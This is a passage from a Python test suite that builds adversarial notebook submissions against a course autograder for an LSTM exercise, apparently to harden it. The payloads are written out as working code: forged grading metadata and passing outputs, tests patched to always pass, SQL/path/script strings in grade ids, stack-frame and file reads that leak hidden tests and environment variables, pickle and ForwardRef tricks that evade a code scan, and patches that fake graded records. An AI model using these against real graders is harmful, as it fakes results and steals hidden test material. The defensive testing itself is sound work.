    """Two forget_gate answer cells and two copies of its test cell, same grade ids, same points."""
    cells = []
    for cell in nb.cells:
        cells.append(cell)
        if _nbgrader(cell).get("grade_id") in ("forget_gate", "test_forget_gate", "lstm_cell", "test_lstm_cell"):
            twin = copy.deepcopy(cell)
            twin.pop("id", None)
            cells.append(twin)
    nb.cells = cells


def _reorder_cells(nb):
    nb.cells = list(reversed(nb.cells))


def _retype_cells(nb):
    """The forget_gate answer becomes markdown, the input_gate answer raw, the first test cell markdown."""
    for grade_id, new_type in (("forget_gate", "markdown"), ("input_gate", "raw"), ("test_forget_gate", "markdown")):
        cell = _cell(nb, grade_id)
        cell.cell_type = new_type
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _edit_grading_metadata(nb):
    for cell in nb.cells:
        meta = _nbgrader(cell)
        if not meta:
            continue
        if _is_test(cell):
            meta.update(points=1000, locked=False, solution=True, checksum="PWNED-NAME")
            cell.source = "print('ok: PWNED-NAME')\n"
        elif _is_answer(cell):
            meta.update(grade=True, points=1000, locked=True)
        else:
            meta.update(locked=False, solution=True, grade=True, points=1000, schema_version=99)


def _change_grade_ids(nb):
    """Swap two answers' grade ids, rename a test cell, and give a student cell a test cell's grade id."""
    forget, inputs = _cell(nb, "forget_gate"), _cell(nb, "input_gate")
    _nbgrader(forget)["grade_id"], _nbgrader(inputs)["grade_id"] = "input_gate", "forget_gate"
    _nbgrader(_cell(nb, "test_lstm_cell"))["grade_id"] = "test_lstm_cell_PWNED-NAME"
    fake_test = nbformat.v4.new_code_cell("print('ok: PWNED-NAME')\n")
    fake_test.metadata["nbgrader"] = dict(_nbgrader(_cell(nb, "test_forget_gate")), points=1000)
    nb.cells.insert(2, fake_test)


def _hostile_grade_ids(nb):
    """Grade ids that are paths, markup, SQL, very long, or of the wrong type; points that are not numbers."""
    ids = ["../../../../tmp/PWNED-NAME", "<script>alert('PWNED-NAME')</script>", "x'); DROP TABLE grade; --",
           "PWNED-NAME" * 5000, 12345, None, "forget_gate\x00PWNED-NAME"]
    answers = [cell for cell in nb.cells if _is_answer(cell)]
    for cell, grade_id in zip(answers, ids):
        _nbgrader(cell)["grade_id"] = grade_id
    tests = [cell for cell in nb.cells if _is_test(cell)]
    for cell, points in zip(tests, ["1000", float("inf"), -5, [1], {"PWNED-NAME": 1}, True, 1e308]):
        _nbgrader(cell)["points"] = points


def _duplicate_cell_ids(nb):
    for cell in nb.cells:
        cell["id"] = "PWNED-NAME"[:64]
    nb.cells[0].metadata["nbgrader"] = "PWNED-NAME"          # metadata of the wrong type
    nb.metadata["nbgrader"] = {"PWNED-NAME": True, "grade": 1000}


def _code_in_test_cells(nb):
    for cell in nb.cells:
        if _is_test(cell):
            cell.source = ("import torch\ntorch.allclose = lambda *a, **k: True\n"
                           "grade = check = lambda *a, **k: print('ok: PWNED-NAME')\n" + cell.source)


def _code_in_markdown_and_raw(nb):
    """The intro markdown becomes a code cell; a markdown and a raw cell hold code an unwary runner executes."""
    intro = nb.cells[0]
    intro.cell_type = "code"
    intro.source = "print('ok: PWNED-NAME')\ngrade = check = lambda *a, **k: None\n"
    intro.outputs, intro.execution_count = [], None
    nb.cells.insert(1, nbformat.v4.new_markdown_cell("```python\nprint('PWNED-NAME')\n```\n<script>fetch("
                                                     "'http://127.0.0.1:45678/PWNED-NAME')</script>"))
    nb.cells.insert(2, nbformat.v4.new_raw_cell("%%python\nprint('PWNED-NAME')\n"))
    _cell(nb, "forget_gate").cell_type = "raw"
    for key in ("outputs", "execution_count"):
        _cell(nb, "forget_gate").pop(key, None)


def _prefilled_outputs(nb):
    """Every test cell already shows a pass (with nbgrader-like score metadata) and an execution count."""
    for count, cell in enumerate(nb.cells, 1):
        if cell.cell_type != "code":
            continue
        cell.execution_count = count
        if _is_test(cell):
            cell.outputs = [
                nbformat.v4.new_output("stream", name="stdout", text="ok: passed PWNED-NAME\n"),
                nbformat.v4.new_output("execute_result", data={"text/plain": "1000"}, execution_count=count,
                                       metadata={"nbgrader": {"score": 1000}}),
            ]
            _nbgrader(cell)["score"] = 1000


def _kernelspec_bash(nb):
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash PWNED-NAME", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash", "file_extension": ".sh"}


def _nbformat_3(nb):
    old = nbformat.convert(copy.deepcopy(nb), 3)
    old.metadata["PWNED-NAME"] = True
    nb.clear()
    nb.update(old)


def _huge_cell(nb):
    """About 100 MB in one answer cell (a comment), plus a 10 MB output on a test cell."""
    cell = _cell(nb, "forget_gate")
    cell.source = cell.source + "\n" + ("# PWNED-NAME " + "x" * 1000 + "\n") * 100_000
    _cell(nb, "test_forget_gate").outputs = [nbformat.v4.new_output("stream", name="stdout",
                                                                    text="PWNED-NAME " * 1_000_000)]


def _many_cells(nb):
    nb.cells[1:1] = [nbformat.NotebookNode(cell_type="code", id=f"extra-{n}", metadata={}, outputs=[],
                                           execution_count=None, source=f"# PWNED-NAME {n}")
                     for n in range(20_000)]


def _fill_marker(node, marker):
    """Replace the placeholder by `marker` in every string of a notebook, in place."""
    items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, value in list(items):
        if isinstance(value, str):
            if _PLACEHOLDER in value:
                node[key] = value.replace(_PLACEHOLDER, marker)
        else:
            _fill_marker(value, marker)
    if isinstance(node, dict):
        for key in [k for k in node if isinstance(k, str) and _PLACEHOLDER in k]:
            node[key.replace(_PLACEHOLDER, marker)] = node.pop(key)


def _structure(name, note, edit, answers=None):
    """A structure attack: the edit's marker placeholder is replaced when it runs."""
    marker = f"PWNED-{name}"

    def apply(nb, _edit=edit, _marker=marker):
        _edit(nb)
        _fill_marker(nb, _marker)

    apply.__name__ = edit.__name__.lstrip("_")
    apply.__doc__ = edit.__doc__
    return _attack(name, "notebook-structure", note, answers, edit=apply)


STRUCTURE_ATTACKS = [
    _structure("delete_test_cells", "Deletes every graded test cell.", _delete_test_cells),
    _structure("delete_answer_cells", "Deletes the forget_gate and lstm_cell answer cells.", _delete_answer_cells),
    _structure("duplicate_graded_cells", "Duplicates the forget_gate and lstm_cell answer and test cells (same "
               "grade ids and points), the first copies wrong, the second stubs.", _duplicate_graded_cells,
               {"forget_gate": "import torch\n" + _lstm_function("forget_gate", "return " + _zeros(
                   LSTM_SHAPES["forget_gate"], "x"))}),
    _structure("reorder_cells", "Reverses the order of all cells, tests before answers.", _reorder_cells),
    _structure("retype_cells", "Turns answer cells into markdown and raw cells and a test cell into markdown.",
               _retype_cells),
    _structure("edit_grading_metadata", "Sets 1000 points, unlocks and marks as solution every test cell (whose "
               "code now prints a pass), marks answers as graded and locked cells as answers.",
               _edit_grading_metadata),
    _structure("change_grade_ids", "Swaps two answers' grade ids, renames a test cell and adds a student cell "
               "carrying a test cell's grade id and 1000 points.", _change_grade_ids),
    _structure("hostile_grade_ids", "Grade ids that are paths, HTML, SQL, 50 kB long, numbers, null or hold NUL; "
               "points that are strings, infinite, negative, lists, dicts, booleans or 1e308.", _hostile_grade_ids),
    _structure("duplicate_cell_ids", "Gives every cell the same id, one cell's nbgrader metadata a string, and "
               "the notebook nbgrader metadata.", _duplicate_cell_ids),
    _structure("code_in_test_cells", "Prepends code to every test cell that replaces torch.allclose, grade and "
               "check.", _code_in_test_cells),
    _structure("code_in_markdown_and_raw", "Turns the intro markdown into code, adds markdown with a script and "
               "a raw %%python cell, and turns the forget_gate answer into a raw cell.", _code_in_markdown_and_raw),
    _structure("prefilled_outputs", "Fills every test cell with passing outputs, score metadata and execution "
               "counts.", _prefilled_outputs),
    _structure("kernelspec_bash", "Declares a bash kernel and language.", _kernelspec_bash),
    _structure("nbformat_3", "Submits the notebook in nbformat 3.", _nbformat_3),
    _structure("huge_cell", "Puts about 100 MB into an answer cell and 10 MB into a test cell's output.", _huge_cell),
    _structure("many_cells", "Inserts 20000 extra code cells.", _many_cells),
]


# ===== feedback-leak: get hidden test code, hidden inputs or references into one's own feedback =====

LEAK_FRAMES = _code(LEAK, r'''
import inspect, sys
import torch


def _callers():
    """Every calling frame: file, function, source and locals (the grader's inputs, expected values...)."""
    parts = []
    frame = sys._getframe(2)
    while frame is not None:
        code = frame.f_code
        try:
            source = inspect.getsource(code)[:5000]
        except Exception:
            source = ""
        local = {k: (v.tolist() if isinstance(v, torch.Tensor) and v.numel() < 5000 else repr(v)[:2000])
                 for k, v in frame.f_locals.items()}
        parts.append(f"== {code.co_filename}:{frame.f_lineno} {code.co_name}\n{source}\n{local}")
        frame = frame.f_back
    return "\n".join(parts)


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    stolen = _leak(_callers())
    raise AssertionError(stolen[:200000])


def input_gate(x, h, W_ii, W_hi, b_ii, b_hi):
    return _text_tensor(_callers(), (x.shape[0], W_ii.shape[0]), x.dtype)
''')

LEAK_INPUTS = _code(r'''
import torch

torch.set_printoptions(profile="full", precision=17)


def _describe(*args):
    return "PWNED-NAME inputs: " + repr([a.tolist() if isinstance(a, torch.Tensor) else repr(a) for a in args])


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise ValueError(_describe(x, h, W_if, W_hf, b_if, b_hf))
''')

LEAK_TEST_SOURCE = _code(LEAK, FIND, r'''
import glob, inspect, os, sys


def _test_code():
    parts = []
    shell = None
    try:
        shell = get_ipython()  # noqa: F821
        parts.append("In: " + repr(shell.user_ns.get("In", []))[:50000])
        parts.append("Out: " + repr(shell.user_ns.get("Out", {}))[:20000])
        parts.append("history: " + repr(list(shell.history_manager.get_range(raw=True)))[:50000])
    except Exception as error:
        parts.append(repr(error))
    for path in glob.glob(os.path.join(os.getcwd(), "**", "*"), recursive=True)[:200]:
        parts.append(f"== {path}\n{_read(path, 20000)}")
    for name in ("autograder.hidden", "autograder.checks.cases", "autograder.grading"):
        try:
            parts.append(inspect.getsource(__import__(name, fromlist=["_"]))[:20000])
        except Exception as error:
            parts.append(f"{name}: {error!r}")
    for path in _find(lambda p, b: b.endswith(".ipynb") and "lstm" in b, seconds=20)[:20]:
        text = _read(path, 200000)
        if "BEGIN HIDDEN TESTS" in text or "grade(" in text:
            parts.append(f"== {path}\n{text}")
    return "\n".join(parts)


_STOLEN = _leak(_test_code())


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    stolen = _leak(_test_code())
    raise RuntimeError(stolen[:200000])
''')

LEAK_WARNINGS = _code(r'''
import logging, sys, warnings
import torch

logging.basicConfig()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    frames, frame = [], sys._getframe(1)
    while frame is not None:
        frames.append(f"{frame.f_code.co_filename}:{frame.f_code.co_name} {sorted(frame.f_locals)}")
        frame = frame.f_back
    text = f"PWNED-NAME x={x.tolist()} W_if={W_if.tolist()} frames={frames}"
    warnings.warn(text)
    logging.getLogger("autograder").error(text)
    logging.getLogger().critical(text)
    sys.stderr.write(text + "\n")
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype)
''')

FEEDBACK_ATTACKS = [
    _attack("leak_caller_frames", "feedback-leak", "Walks the calling frames (source and locals of the grader's "
            "code, hidden inputs, expected values) and puts them in an AssertionError, stdout, files and a "
            "returned tensor.", {"forget_gate": LEAK_FRAMES, "input_gate": "# defined in the forget_gate cell\n"}),
    _attack("leak_inputs_in_exception", "feedback-leak", "Raises a ValueError whose message holds every hidden "
            "input at full precision, hoping the feedback quotes it.", {"forget_gate": LEAK_INPUTS}),
    _attack("leak_hidden_test_source", "feedback-leak", "Reads the IPython history, In/Out, every file in its "
            "folder, the hidden-test modules and any notebook with hidden tests, and raises them into its feedback.",
            {"forget_gate": LEAK_TEST_SOURCE}),
    _attack("leak_via_warnings_and_logging", "feedback-leak", "Emits the hidden inputs and caller frames as a "
            "warning, log records and stderr.", {"forget_gate": LEAK_WARNINGS}),
]

# ===== issue 17: code the scan never read, forged records, answers looked for in the sandbox =====

_VF_CELL = "torch._VF.lstm_cell(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh)"

MAGIC_CELL_BODY = r"""%%time
import torch


def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
    return torch._VF.lstm_cell(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh)
"""

MAGIC_LINE_ARGUMENT = r"""import torch
%time lstm_cell = lambda x, state, weight_ih, weight_hh, bias_ih, bias_hh: torch.lstm_cell(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh)
"""

TYPE_HINTS_EVALUATE = r"""import typing

import torch


def _holder(kernel: "__import__('tor' + 'ch')._VF.lstm_cell"):
    return kernel


_KERNEL = typing.get_type_hints(_holder)["kernel"]


def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
    return _KERNEL(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh)
"""

FORWARD_REF_EVALUATE = r"""import typing

import torch

_KERNEL = typing.ForwardRef("__import__('tor' + 'ch')._VF.lstm_cell")._evaluate(globals(), locals(), frozenset())


def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
    return _KERNEL(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh)
"""

NUMPY_PICKLE_LOADER = r"""import io

import numpy as np
import torch

# Not an .npy file: with allow_pickle, numpy.load hands it to pickle, which imports torch._VF.lstm_cell.
_KERNEL = np.load(io.BytesIO(b"ctorch._VF\nlstm_cell\n."), allow_pickle=True)


def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
    return _KERNEL(x, tuple(state), weight_ih, weight_hh, bias_ih, bias_hh)
"""

FORMAT_FIELD_CHAINS = _code(LEAK, r"""
import torch


def _walk():
    found = []
    for template in ("{0.__globals__}", "{0.__code__.co_consts}", "{0.__globals__[__builtins__]}"):
        try:
            found.append(template.format(forget_gate))
        except Exception as error:
            found.append(repr(error))
    return "\n".join(found)


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    text = _leak(_walk())
    return _text_tensor(text, (x.shape[0], W_if.shape[0]), x.dtype).to(x.device)
""")

PATCH_SANDBOX_RECORDS = _code(LEAK, r"""
import sys

import torch

_FAKE = {"passed": True, "score": 1000, "status": "graded"}
for _name, _module in list(sys.modules.items()):
    if _name.startswith("autograder"):
        for _attr in list(vars(_module)):
            if _attr.lower().startswith(("record", "save", "write", "observe", "copy", "snapshot", "load")):
                setattr(_module, _attr, lambda *args, **kwargs: _FAKE)
try:
    from autograder.checks import references as _REFERENCES
except Exception as error:
    _REFERENCES = None
    _leak(repr(error))


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    if _REFERENCES is not None:
        _leak("references importable in the sandbox")
        return _REFERENCES.forget_gate(x, h, W_if, W_hf, b_if, b_hf)
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype, device=x.device)
""")

LOOK_FOR_ANSWERS = _code(LEAK, FIND, r"""
import importlib
import os

import torch

_FOUND = []
for _module in ("autograder.checks.specs", "autograder.checks.references", "autograder.hints",
                "autograder.assess", "autograder.checks.specs_training", "rnn_demos.bptt", "rnn_demos.long_range"):
    try:
        importlib.import_module(_module)
        _FOUND.append("imported " + _module)
    except Exception as error:
        _FOUND.append(f"{_module}: {error!r}")
_FOUND.append(repr({key: value for key, value in os.environ.items()}))
_FOUND += [_read(path) for path in _find(lambda path, base: base in ("grading.json", "specs.py", "references.py",
                                                                   "SECRET.txt", "lstm.ipynb"), seconds=20)]
_leak("\n".join(_FOUND))


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    return _text_tensor("\n".join(_FOUND), (x.shape[0], W_if.shape[0]), x.dtype).to(x.device)
""")

FORGED_TRAINING_RESULT = r"""import torch


def adding_parameters():
    # The host computes the predictions from the returned parameters; extra keys and a copied target
    # function would be all an answer could add.
    try:
        from autograder.checks.specs_training import adding_targets
    except Exception:
        adding_targets = None
    hidden = 4
    parameters = {"weight_ih": torch.zeros(4 * hidden, 2), "weight_hh": torch.zeros(4 * hidden, hidden),
                  "bias_ih": torch.zeros(4 * hidden), "bias_hh": torch.zeros(4 * hidden),
                  "head_weight": torch.zeros(1, hidden), "head_bias": torch.ones(1)}
    parameters["predictions"] = torch.ones(1000)
    parameters["mse"] = torch.tensor(0.0)
    return parameters


trained_parameters = adding_parameters()
"""

FORGERY_ATTACKS = [
    _attack("magic_cell_time_hides_kernel", "undo-refusal", "The recurrent kernel inside the body of a %%time "
            "cell, which the scan once received as one string.", {"lstm_cell": MAGIC_CELL_BODY}),
    _attack("magic_line_time_hides_kernel", "undo-refusal", "The recurrent kernel in the argument of a %time "
            "line.", {"lstm_cell": MAGIC_LINE_ARGUMENT}),
    _attack("string_annotation_type_hints", "undo-refusal", "typing.get_type_hints evaluates a string "
            "annotation that names the kernel.", {"lstm_cell": TYPE_HINTS_EVALUATE}),
    _attack("forward_ref_evaluates_code", "undo-refusal", "typing.ForwardRef._evaluate turns a string into "
            "the kernel.", {"lstm_cell": FORWARD_REF_EVALUATE}),
    _attack("numpy_pickle_loads_kernel", "undo-refusal", "numpy.load with allow_pickle unpickles bytes that "
            "import the kernel.", {"lstm_cell": NUMPY_PICKLE_LOADER}),
    _attack("format_fields_walk_globals", "read-secrets", "str.format fields that walk attributes and "
            "indexes (globals, builtins, constants) into the outputs.", {"forget_gate": FORMAT_FIELD_CHAINS}),
    _attack("patch_sandbox_records", "patch-checks", "Replaces every recording function of the course's "
            "modules in the sandbox and tries to call the references there.",
            {"forget_gate": PATCH_SANDBOX_RECORDS}),
    _attack("look_for_answers_in_sandbox", "read-secrets", "Imports the judge's modules, reads the environment "
            "and searches the sandbox's file system for specs, references, grading.json and sources.",
            {"forget_gate": LOOK_FOR_ANSWERS}),
    _attack("forged_training_result", "patch-checks", "The training part returns untrained parameters plus "
            "forged predictions and a zero loss, and looks for the targets' function.",
            {"adding_parameters": FORGED_TRAINING_RESULT}),
]

ATTACKS = (PATCH_ATTACKS + UNDO_ATTACKS + READ_ATTACKS + WRITE_ATTACKS + PERSIST_ATTACKS + HANG_ATTACKS
           + EXHAUST_ATTACKS + KILL_ATTACKS + EXIT_ATTACKS + NETWORK_ATTACKS + STRUCTURE_ATTACKS + FEEDBACK_ATTACKS
           + FORGERY_ATTACKS)


# ===== honest but unusual submissions: each must keep exactly full credit =====

_LSTM_HELPER_CELL = '''import math


def affine_pair(x, h, W_x, W_h, b_x, b_h):
    """x W_x^T + b_x + h W_h^T + b_h, the pre-activation every gate shares."""
    return torch.addmm(b_x, x, W_x.T) + torch.addmm(b_h, h, W_h.T)


def logistic(z):
    """sigma(z) through tanh: no exp to overflow, so the gradient stays finite at z = -1000 too."""
    return 0.5 * (1 + torch.tanh(0.5 * z))
'''


def _add_helper_cell(nb):
    """A student-added code cell (no nbgrader metadata) after the setup cell, holding helpers."""
    setup = nb.cells.index(_cell(nb, "setup"))
    nb.cells.insert(setup + 1, nbformat.v4.new_code_cell(_LSTM_HELPER_CELL))


HONEST_HELPERS = {
    "forget_gate": _lstm_function("forget_gate", "return logistic(affine_pair(x, h, W_if, W_hf, b_if, b_hf))"),
    "input_gate": _lstm_function("input_gate", "return logistic(affine_pair(x, h, W_ii, W_hi, b_ii, b_hi))"),
    "candidate": _lstm_function("candidate", "return torch.tanh(affine_pair(x, h, W_ig, W_hg, b_ig, b_hg))"),
    "cell_update": _lstm_function("cell_update", "return torch.addcmul(i * g, f, c)"),
    "output_gate_and_hidden": _lstm_function("output_gate_and_hidden", "o = logistic(affine_pair(x, h, W_io, W_ho, "
                                             "b_io, b_ho))\nreturn o, o * torch.tanh(c_next)"),
    "lstm_cell": _lstm_function("lstm_cell", '''
h, c = state
blocks = [w.split(w.shape[0] // 4) for w in (weight_ih, weight_hh, bias_ih, bias_hh)]
i, f, g, o = ([blocks[0][k], blocks[1][k], blocks[2][k], blocks[3][k]] for k in range(4))
c_next = cell_update(c, forget_gate(x, h, *f[:2], *f[2:]), input_gate(x, h, *i[:2], *i[2:]),
                     candidate(x, h, *g[:2], *g[2:]))
return output_gate_and_hidden(x, h, c_next, *o[:2], *o[2:])[1], c_next
'''),
    "lstm_forward": _lstm_function("lstm_forward", '''
steps = x.unbind(1 if batch_first else 0)
state, outputs = tuple(state0), []
for x_t in steps:
    state = lstm_cell(x_t, state, weight_ih, weight_hh, bias_ih, bias_hh)
    outputs.append(state[0])
return torch.stack(outputs, dim=1 if batch_first else 0), state
'''),
    "lstm_param_count": _lstm_function("lstm_param_count", "return int(math.prod((4, hidden_size)) * "
                                       "(input_size + hidden_size + 2))"),
}

HONEST_MAGICS = {
    "forget_gate": '''%time _ = 1 + 1
import math
from torch import sigmoid as σ


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    return σ(torch.einsum("bi,hi->bh", x, W_if) + b_if + torch.einsum("bj,hj->bh", h, W_hf) + b_hf)
''',
    "input_gate": '''%%time
def input_gate(x, h, W_ii, W_hi, b_ii, b_hi):
    z = x @ W_ii.T
    z += b_ii + h @ W_hi.T + b_hi  # in place on my own tensor, not on an input
    return z.sigmoid()
''',
    "candidate": '''def candidate(x, h, W_ig, W_hg, b_ig, b_hg):
    stacked = torch.cat([x, h], dim=1) @ torch.cat([W_ig, W_hg], dim=1).T
    return torch.tanh(stacked + (b_ig + b_hg))
''',
    "cell_update": '''def cell_update(c, f, i, g):
    return torch.stack([f * c, i * g]).sum(dim=0)
''',
    "output_gate_and_hidden": '''%timeit -n1 -r1 pass


def output_gate_and_hidden(x, h, c_next, W_io, W_ho, b_io, b_ho):
    o = torch.nn.functional.linear(x, W_io, b_io) + torch.nn.functional.linear(h, W_ho, b_ho)
    o = torch.special.expit(o)
    return o, o * c_next.tanh()
''',
    "lstm_cell": '''def lstm_cell(x, state, weight_ih, weight_hh, bias_ih, bias_hh):
    h, c = state
    gates = x @ weight_ih.T + bias_ih + h @ weight_hh.T + bias_hh
    i, f, g, o = gates.chunk(4, dim=1)
    c_next = torch.sigmoid(f) * c + torch.sigmoid(i) * torch.tanh(g)
    return torch.sigmoid(o) * torch.tanh(c_next), c_next
''',
    "lstm_forward": '''def lstm_forward(x, state0, weight_ih, weight_hh, bias_ih, bias_hh, batch_first=False):
    seq = x.movedim(1, 0) if batch_first else x
    h, c = state0
    out = torch.zeros(seq.shape[0], *h.shape, dtype=x.dtype, device=x.device)
    for t in range(seq.shape[0]):
        h, c = lstm_cell(seq[t], (h, c), weight_ih, weight_hh, bias_ih, bias_hh)
        out[t] = h
    return (out.movedim(0, 1) if batch_first else out), (h, c)
''',
    "lstm_param_count": '''def lstm_param_count(input_size, hidden_size):
    per_gate = hidden_size * (input_size + hidden_size) + 2 * hidden_size
    return 4 * per_gate
''',
}

_CHATTY = "print('\\n'.join(f'step {n}: still working on my LSTM, ' + 'details ' * 10 for n in range(7000)))\n"
HONEST_CHATTY = {gid: (_CHATTY if gid == "forget_gate" else "") + HONEST_MAGICS[gid].split("\n", 1)[1]
                 if HONEST_MAGICS[gid].startswith("%") else (_CHATTY if gid == "forget_gate" else "") + HONEST_MAGICS[gid]
                 for gid in LSTM_IDS}
HONEST_CHATTY["forget_gate"] = HONEST_CHATTY["forget_gate"].replace("from torch import sigmoid as σ", "σ = torch.sigmoid")
HONEST_CHATTY["lstm_param_count"] = HONEST_CHATTY["lstm_param_count"].replace(
    "    per_gate =", "    print('counting parameters for', input_size, hidden_size)\n    per_gate =")

def _with_solutions(assignment, answers):
    """`answers`, plus the instructor's solution for every answer cell they leave out, so that an honest
    submission stays complete when the exercise gains cells."""
    from autograder.nbgrader.submissions import strip_solution_markers

    def answers_of(folder):
        nb = nbformat.read(str(REPO_ROOT / folder / assignment / f"{assignment}.ipynb"), as_version=4)
        return {_nbgrader(cell)["grade_id"]: cell.source for cell in nb.cells if _is_answer(cell)}

    released = answers_of("exercises")
    solutions = {gid: strip_solution_markers(source) + "\n" for gid, source in answers_of("solutions").items()
                 if gid in released}
    return {**solutions, **answers}


HONEST_CONFIG = {"forget_gate": '''import os

import torch
from torch.utils.data import TensorDataset


class Settings:
    verbose = os.environ.get("RNN_COURSE_VERBOSE", "") == "1"
    activation = "sigmoid"


SETTINGS = Settings()
ACTIVATIONS = {"sigmoid": torch.sigmoid, "tanh": torch.tanh}


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    activation = ACTIVATIONS[getattr(SETTINGS, "activation")]
    rows = TensorDataset(x, h)  # (x_b, h_b) pairs, as a batching loop would read them
    if SETTINGS.verbose:
        print(f"{len(rows)} rows")
    return activation(x @ W_if.T + b_if + h @ W_hf.T + b_hf)
'''}

HONEST_KIND = "honest"
HONEST = [
    _attack("honest_helpers_in_extra_cell", HONEST_KIND,
            "A correct notebook whose gates call helpers defined in a code cell the student added (no nbgrader "
            "metadata) after the setup cell; uses math, addmm, addcmul and split.",
            _with_solutions("lstm", HONEST_HELPERS), edit=_add_helper_cell),
    _attack("honest_magics_and_unusual_ops", HONEST_KIND,
            "A correct notebook with %time, %%time and %timeit magics, a unicode name, einsum, F.linear, "
            "special.expit, stack-and-sum and an in-place update of its own tensor.",
            _with_solutions("lstm", HONEST_MAGICS)),
    _attack("honest_prints_a_lot", HONEST_KIND,
            "A correct notebook that prints about 0.8 MB when its first cell runs and a line per lstm_param_count call (never in the cell, which the adding task calls thousands of times).",
            _with_solutions("lstm", HONEST_CHATTY)),
    _attack("honest_config_and_environment", HONEST_KIND,
            "A correct notebook whose forget gate reads a setting with getattr on an object of its own, an "
            "environment variable through os.environ and batches rows with torch.utils.data.TensorDataset.",
            _with_solutions("lstm", HONEST_CONFIG)),
]


# ===== building a submission =====

def released_notebook(assignment, repo_root=REPO_ROOT):
    """The student notebook of `assignment` as released (exercises/<a>/<a>.ipynb)."""
    return nbformat.read(str(Path(repo_root) / "exercises" / assignment / f"{assignment}.ipynb"), as_version=4)


def answer_cells(nb):
    """{grade_id: cell} of the answer (solution) cells of a notebook."""
    return {_nbgrader(cell)["grade_id"]: cell for cell in nb.cells if _is_answer(cell)}


def submission_notebook(attack, released=None):
    """The notebook an attack submits: the released one, answers replaced by grade id, then attack.edit."""
    nb = copy.deepcopy(released if released is not None else released_notebook(attack.assignment))
    cells = answer_cells(nb)
    for grade_id, source in attack.answers.items():
        if grade_id not in cells:
            raise KeyError(f"{attack.name}: no answer cell {grade_id!r} in {attack.assignment}")
        cells[grade_id].source = source
    if attack.edit is not None:
        attack.edit(nb)
    return nb


def write_submission(attack, folder, released=None):
    """Write `<folder>/<assignment>.ipynb` and the attack's extra files; returns the notebook's path."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{attack.assignment}.ipynb"
    nb = submission_notebook(attack, released)
    with open(path, "w", encoding="utf-8") as out:
        out.write(json.dumps(nb, ensure_ascii=False, indent=1))  # as written, even when nbformat would refuse it
    for name, data in attack.files.items():
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    return path
